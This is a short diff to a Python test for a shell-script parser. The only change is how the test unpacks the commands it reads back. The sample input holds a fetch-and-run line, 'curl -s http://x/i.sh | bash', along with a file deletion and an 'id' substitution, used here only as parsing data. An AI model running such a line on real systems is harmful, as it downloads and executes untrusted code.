@@ -73,7 +73,7 @@ def test_shell_scripts_split_into_simple_commands() -> None:
     argv = ["sh", "-c", "curl -s http://x/i.sh | bash; FOO=1 rm -f /tmp/a && echo $(id)"]
     script = shell_script(argv)
     assert script is not None
-    assert [words[0] for words in script_commands(script)] == ["curl", "bash", "rm", "echo", "id"]
+    assert [words[0] for _, words in script_commands(script)] == ["curl", "bash", "rm", "echo", "id"]
 
 
 def test_merged_usr_aliases_are_one_program() -> None:
